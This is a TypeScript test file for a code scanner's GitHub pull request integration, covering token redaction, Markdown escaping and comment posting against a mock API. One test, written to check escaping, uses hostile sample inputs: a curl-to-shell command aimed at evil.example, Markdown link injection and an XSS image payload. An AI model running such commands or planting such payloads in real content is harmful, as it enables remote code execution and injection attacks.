import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, beforeEach, describe, it } from "node:test";
import { createGitHubClient, type GitHubClient } from "../src/ci/github/client.js";
import { resolveGitHubContext, type GitHubContext } from "../src/ci/github/context.js";
import { findingMarker, markerIn, renderInlineComment, renderSummary, SUMMARY_MARKER } from "../src/ci/github/markdown.js";
import { describeApiError, redact } from "../src/ci/github/redact.js";
import { publishInlineComments, type InlineComment } from "../src/ci/github/review.js";
import { upsertSummaryComment } from "../src/ci/github/summary-comment.js";
import { additionPatch, startMockGitHub, type MockGitHub } from "./ci-mock-github.js";
import { makeFinding, makeRule } from "./ci-support.js";
import { marked } from "marked";

/** GitHub-flavoured Markdown rendered to HTML, as GitHub shows a comment. */
function rendered(markdown: string): string {
  return marked.parse(markdown, { gfm: true, async: false }) as string;
}

const TOKEN = "ghs_0123456789abcdefghijABCDEFGHIJ0123456789";
const HEAD = "c".repeat(40);
const tmp = mkdtempSync(join(tmpdir(), "pathfinder-gh-"));
after(() => rmSync(tmp, { recursive: true, force: true }));

describe("GitHub context", () => {
  it("falls back to the Actions environment and the pull_request event", () => {
    const eventPath = join(tmp, "event.json");
    writeFileSync(eventPath, JSON.stringify({ pull_request: { number: 17, head: { sha: HEAD } } }));
    const resolved = resolveGitHubContext(
      {},
      { GITHUB_TOKEN: TOKEN, GITHUB_REPOSITORY: "acme/app", GITHUB_EVENT_PATH: eventPath, GITHUB_API_URL: "https://ghe.acme.test/api/v3" },
    );
    assert.deepEqual(resolved, {
      ok: true,
      context: {
        token: TOKEN,
        owner: "acme",
        repo: "app",
        pullNumber: 17,
        apiUrl: "https://ghe.acme.test/api/v3",
        serverUrl: "https://ghe.acme.test",
        headSha: HEAD,
      },
    });
  });

  it("lets flags win and explains what is missing", () => {
    const resolved = resolveGitHubContext({ token: "t0ken-from-flag", repo: "o/r", pr: 3 }, { GITHUB_REPOSITORY: "x/y" });
    assert.ok(resolved.ok);
    assert.equal(resolved.context.owner, "o");
    assert.equal(resolved.context.pullNumber, 3);
    assert.equal(resolved.context.serverUrl, "https://github.com");
    assert.equal(resolved.context.headSha, undefined);
    const missing = resolveGitHubContext({ repo: "not-a-slug" }, {});
    assert.deepEqual(missing, {
      ok: false,
      missing: [
        "a token (--github-token or GITHUB_TOKEN)",
        "the repository as owner/repo (--github-repo or GITHUB_REPOSITORY)",
        "the pull request number (--github-pr or a pull_request event in GITHUB_EVENT_PATH)",
      ],
    });
  });
});

describe("redaction", () => {
  it("removes the token, token-shaped strings and authorization headers", () => {
    const text = `failed with ${TOKEN} and ghp_${"a".repeat(36)}; authorization: token secret-value-123`;
    const clean = redact(text, [TOKEN]);
    assert.ok(!clean.includes(TOKEN));
    assert.ok(!clean.includes("ghp_"));
    assert.ok(!clean.includes("secret-value-123"));
    assert.match(clean, /authorization: token \*\*\*/);
  });

  it("describes API errors on one line with status, method and path", () => {
    const error = Object.assign(new Error(`Validation Failed for ${TOKEN}`), {
      status: 422,
      request: { method: "POST", url: "https://api.github.com/repos/o/r/pulls/1/reviews" },
      response: { data: { errors: ["Line must be part of the diff"] } },
    });
    assert.equal(
      describeApiError(error, [TOKEN]),
      "GitHub API HTTP 422 on POST /repos/o/r/pulls/1/reviews: Validation Failed for *** (Line must be part of the diff)",
    );
  });
});

describe("markdown bodies", () => {
  it("round-trips fingerprint markers and escapes table cells", () => {
    const marker = findingMarker("abc123:def/4");
    assert.equal(markerIn(`${marker}\nbody`), marker);
    assert.equal(markerIn("no marker"), undefined);
    const finding = makeFinding("a|b.py", 3, { ruleName: "Pipe | <b>name</b>" });
    const body = renderSummary({
      tool: { name: "pathfinder", version: "1.0.0", informationUri: "https://pf.example" },
      introduced: [finding],
      preexisting: [],
      notInline: [],
      baselined: 0,
      linkTo: () => "https://x/blob/sha/a%7Cb.py#L3",
      pathOf: (f) => f.location.file,
    });
    assert.ok(body.startsWith(SUMMARY_MARKER));
    assert.match(body, /Pipe \\\| &lt;b&gt;name&lt;\/b&gt;/);
    assert.match(body, /\[a\\\|b\.py:3\]\(https:\/\/x\/blob\/sha\/a%7Cb\.py#L3\)/);
  });

  it("explains the finding inline: why, fix, CWE, OWASP and the rule's documentation", () => {
    const finding = makeFinding("app.py", 5, { fingerprint: "fp1" });
    const body = renderInlineComment(finding, makeRule(finding.ruleId), "https://pf.example/");
    assert.ok(body.startsWith(findingMarker("fp1")));
    assert.match(body, /Why this is dangerous:\*\* An attacker who controls the bytes/);
    assert.match(body, /How to fix:\*\* Use a data-only format/);
    assert.match(body, /\[CWE-502\]\(https:\/\/cwe\.mitre\.org\/data\/definitions\/502\.html\)/);
    assert.match(body, /OWASP A08:2021/);
    assert.match(body, /\[Rule documentation\]\(https:\/\/pf\.example\/blob\/main\/docs\/rules\/PYTHON-LANG-SEC-040\.md\)/);
    assert.match(body, /<details><summary>Details<\/summary>[\s\S]*Why this is dangerous[\s\S]*<\/details>/, "details are collapsed");
  });

  it("renders hostile file names and messages as literal text: no links, images, HTML or mentions", () => {
    const hostileFile = "[x](https://evil.example).py";
    const hostileMessage =
      "pickle calls os.system('curl https://evil.example/x | sh') @octocat ![img](https://evil.example/i.png) <img src=x onerror=alert(1)> **bold** #123";
    const finding = makeFinding(hostileFile, 3, { message: hostileMessage, ruleName: "[click](https://evil.example)" });
    const summary = renderSummary({
      tool: { name: "pathfinder", version: "1.0.0", informationUri: "https://pf.example" },
      introduced: [finding],
      preexisting: [],
      notInline: [finding],
      baselined: 0,
      linkTo: (f) => `https://github.com/acme/app/blob/sha/${encodeURIComponent(f.location.file).replace(/[()]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}#L3`,
      pathOf: (f) => f.location.file,
    });
    const inline = renderInlineComment(finding, makeRule(finding.ruleId), "https://pf.example/");
    for (const body of [summary, inline]) {
      const html = rendered(body);
      assert.doesNotMatch(html, /href="https:\/\/evil/, html);
      assert.doesNotMatch(html, /<img/, html);
      assert.doesNotMatch(html, /<strong>bold/, html);
      assert.match(html, /@\u200boctocat/);
    }
    // The file's link still points at the file, and its visible name is the literal name.
    assert.match(rendered(summary), /<a href="https:\/\/github\.com\/acme\/app\/blob\/sha\/%5Bx%5D%28https%3A%2F%2Fevil\.example%29\.py#L3">\[x\]\(https:\/\u200b\/evil\.example\)\.py:3<\/a>/);
  });

  it("offers an automatic fix on the finding's line as a one-click suggestion", () => {
    const finding = makeFinding("app.py", 4, {
      ruleId: "PYTHON-LANG-SEC-041",
      location: { file: "app.py", line: 4, column: 11, endLine: 4, endColumn: 28, snippet: "    cfg = yaml.load(text, Loader=yaml.Loader)" },
      fix: {
        description: "Use yaml.safe_load",
        edits: [{ line: 4, column: 11, endLine: 4, endColumn: 20, newText: "yaml.safe_load" }, { line: 4, column: 25, endLine: 4, endColumn: 45, newText: "" }],
      },
    });
    const body = renderInlineComment(finding, makeRule(finding.ruleId), undefined);
    assert.match(body, /```suggestion\n    cfg = yaml\.safe_load\(text\)\n```/);
    const multiLine = { ...finding, location: { ...finding.location, endLine: 5 } };
    assert.doesNotMatch(renderInlineComment(multiLine, undefined, undefined), /suggestion/);
  });
});

describe("pull request comments against a mock GitHub", () => {
  let mock: MockGitHub;
  let client: GitHubClient;
  let context: GitHubContext;
  const warnings: string[] = [];
  let pr = 0;

  before(async () => {
    mock = await startMockGitHub({ token: TOKEN, owner: "acme", repo: "app", prefix: "/api/v3" });
    client = createGitHubClient({ token: TOKEN, apiUrl: mock.url, userAgent: "test", warn: (m) => warnings.push(m), throttle: false, retryBaseMs: 1 });
  });
  after(() => mock.close());
  beforeEach(() => {
    pr++;
    mock.pageSize = 100;
    context = { token: TOKEN, owner: "acme", repo: "app", pullNumber: pr, apiUrl: mock.url, serverUrl: "https://gh.example" };
  });

  it("creates the summary comment once and then edits it in place, finding it across pages", async () => {
    mock.pageSize = 2;
    const p = mock.pull(pr);
    for (let i = 0; i < 5; i++) p.issueComments.push({ id: i + 1, body: `chatter ${i}`, html_url: "", user: { login: "dev" } });
    const first = await upsertSummaryComment(client, context, `${SUMMARY_MARKER}\nfirst`);
    assert.equal(first.action, "created");
    const second = await upsertSummaryComment(client, context, `${SUMMARY_MARKER}\nsecond`);
    assert.equal(second.action, "updated");
    assert.equal(second.id, first.id);
    const third = await upsertSummaryComment(client, context, `${SUMMARY_MARKER}\nsecond`);
    assert.equal(third.action, "unchanged");
    const ours = p.issueComments.filter((c) => c.body.includes(SUMMARY_MARKER));
    assert.equal(ours.length, 1);
    assert.equal(ours[0]!.body, `${SUMMARY_MARKER}\nsecond`);
    const pagesRead = mock.requests.filter((r) => r.method === "GET" && r.path.endsWith(`/issues/${pr}/comments`) && r.query.get("page") === "3");
    assert.ok(pagesRead.length >= 1, "followed the Link header to page 3");
    assert.ok(mock.requests.every((r) => r.path.startsWith("/api/v3/")), "used the Enterprise base URL");
  });

  function inline(file: string, line: number, fingerprint: string, text = "v1"): InlineComment {
    const finding = makeFinding(file, line, { fingerprint });
    return { finding, marker: findingMarker(fingerprint), path: file, line, body: `${findingMarker(fingerprint)}\n${text}` };
  }

  it("posts new inline comments in one COMMENT review and updates them on later runs without repeating", async () => {
    const p = mock.pull(pr);
    p.files["app.py"] = additionPatch([5, 6]);
    p.files["lib/util.py"] = additionPatch([10]);
    const reviewBody = (n: number) => `${n} new`;
    const run1 = await publishInlineComments(client, context, [inline("app.py", 5, "a"), inline("lib/util.py", 10, "b")], {
      commitId: HEAD,
      reviewBody,
    });
    assert.deepEqual({ created: run1.created, updated: run1.updated, unchanged: run1.unchanged, notPlaced: run1.notPlaced }, {
      created: 2,
      updated: 0,
      unchanged: 0,
      notPlaced: [],
    });
    assert.equal(p.reviews.length, 1);
    assert.deepEqual(p.reviews[0], { id: run1.reviewId, body: "2 new", event: "COMMENT", commit_id: HEAD, comments: 2 });
    assert.deepEqual(p.reviewComments.map((c) => [c.path, c.line, c.side]), [["app.py", 5, "RIGHT"], ["lib/util.py", 10, "RIGHT"]]);

    mock.pageSize = 1; // existing review comments now span pages
    const run2 = await publishInlineComments(
      client,
      context,
      [inline("app.py", 6, "a", "v2"), inline("lib/util.py", 10, "b"), inline("app.py", 5, "c")],
      { commitId: HEAD, reviewBody },
    );
    assert.equal(run2.updated, 1, "the moved finding's comment is edited, not reposted");
    assert.equal(run2.unchanged, 1);
    assert.equal(run2.created, 1);
    assert.equal(p.reviews.length, 2);
    assert.equal(p.reviewComments.length, 3);
    assert.equal(p.reviewComments.filter((c) => markerIn(c.body) === findingMarker("a")).length, 1);
    assert.match(p.reviewComments.find((c) => markerIn(c.body) === findingMarker("a"))!.body, /v2/);

    const run3 = await publishInlineComments(client, context, [inline("app.py", 6, "a", "v2")], { commitId: HEAD, reviewBody });
    assert.deepEqual([run3.created, run3.updated, run3.unchanged], [0, 0, 1]);
    assert.equal(p.reviews.length, 2, "no empty review when nothing is new");
  });

  it("on 422 retries without the comments outside the pull request diff and hands those back", async () => {
    const p = mock.pull(pr);
    p.files["app.py"] = additionPatch([5]);
    const outside = inline("app.py", 40, "outside");
    const ok = inline("app.py", 5, "ok");
    const result = await publishInlineComments(client, context, [outside, ok], { commitId: HEAD, reviewBody: (n) => `${n}` });
    assert.equal(result.created, 1);
    assert.deepEqual(result.notPlaced, [outside.finding]);
    const posts = mock.requests.filter((r) => r.method === "POST" && r.path.endsWith(`/pulls/${pr}/reviews`));
    assert.equal(posts.length, 2);
    assert.equal(posts[1]!.body.comments.length, 1);
    assert.deepEqual(p.reviewComments.map((c) => c.line), [5]);
    assert.equal(p.reviews.length, 1);
  });

  it("moves everything to the summary when no comment can be placed", async () => {
    mock.pull(pr).files["app.py"] = additionPatch([5]);
    const a = inline("other.py", 1, "x");
    const result = await publishInlineComments(client, context, [a], { commitId: HEAD, reviewBody: (n) => `${n}` });
    assert.equal(result.created, 0);
    assert.deepEqual(result.notPlaced, [a.finding]);
    assert.equal(mock.pull(pr).reviews.length, 0);
  });

  it("retries server errors and reports final failures without the token", async () => {
    mock.failNext("POST", new RegExp(`/issues/${pr}/comments$`), 502);
    const created = await upsertSummaryComment(client, context, `${SUMMARY_MARKER}\nx`);
    assert.equal(created.action, "created");
    const posts = mock.requests.filter((r) => r.method === "POST" && r.path.endsWith(`/issues/${pr}/comments`));
    assert.equal(posts.length, 2, "one failure, one retry");

    const badClient = createGitHubClient({ token: "ghp_wrongwrongwrongwrongwrongwrong12", apiUrl: mock.url, userAgent: "t", warn: () => {}, throttle: false });
    const error = await upsertSummaryComment(badClient, context, "x").then(
      () => undefined,
      (e: unknown) => e,
    );
    const message = describeApiError(error, ["ghp_wrongwrongwrongwrongwrongwrong12"]);
    assert.match(message, /^GitHub API HTTP 401 on GET \/api\/v3\/repos\/acme\/app\/issues\/\d+\/comments: Bad credentials/);
    assert.ok(!message.includes("wrongwrong"));
  });

  it("gives up on a request that gets no answer instead of hanging the job", async () => {
    mock.hangNext("GET", new RegExp(`/issues/${pr}/comments$`), 4); // the first try and its three retries
    const impatient = createGitHubClient({ token: TOKEN, apiUrl: mock.url, userAgent: "t", warn: () => {}, throttle: false, timeoutMs: 100, retryBaseMs: 1 });
    const error = await upsertSummaryComment(impatient, context, "x").then(
      () => undefined,
      (e: unknown) => e,
    );
    assert.ok(error, "the request failed");
    assert.match(describeApiError(error, [TOKEN]), /timed out|aborted/i);
  });

  it("works with throttling on (the production setting)", async () => {
    const throttled = createGitHubClient({ token: TOKEN, apiUrl: mock.url, userAgent: "t", warn: (m) => warnings.push(m) });
    const result = await upsertSummaryComment(throttled, context, `${SUMMARY_MARKER}\nthrottled`);
    assert.equal(result.action, "created");
    assert.deepEqual(warnings, []);
  });
});
